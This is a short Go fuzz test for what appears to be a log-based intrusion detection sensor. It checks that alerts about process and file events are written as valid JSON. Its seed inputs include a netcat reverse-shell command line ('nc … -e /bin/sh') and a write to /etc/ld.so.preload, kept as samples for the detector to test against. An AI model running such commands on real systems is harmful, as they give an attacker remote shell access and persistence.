package sensor

import (
	"encoding/json"
	"testing"

	"vigil/detect"
)

// FuzzLines judges lines of anything: one that is no event is an error, and an alert
// about one that is can be written.
func FuzzLines(f *testing.F) {
	for _, line := range []string{
		`{"Image": "/usr/bin/nc", "CommandLine": "nc 192.0.2.1 4444 -e /bin/sh", "ProcessId": 7, "@timestamp": "2026-11-27T10:00:00Z"}`,
		`{"logsource": {"product": "linux", "category": "file_event"}, "TargetFilename": "/etc/ld.so.preload", "ProcessId": "0x10"}`,
		`{"logsource": null, "Image": {"a": [1, true, null]}}`, `{`, `[]`, ``,
	} {
		f.Add([]byte(line))
	}
	rules := ownRules(f)
	f.Fuzz(func(t *testing.T, line []byte) {
		alerts := 0
		err := NewLines(rules, "linux/process_creation", func(a *detect.Alert) {
			alerts++
			if text := AppendAlert(nil, a, detect.Create); !json.Valid(text) {
				t.Errorf("%q", text)
			}
		}).Judge(1, line)
		if err != nil && alerts > 0 {
			t.Errorf("%d alerts and %v", alerts, err)
		}
	})
}
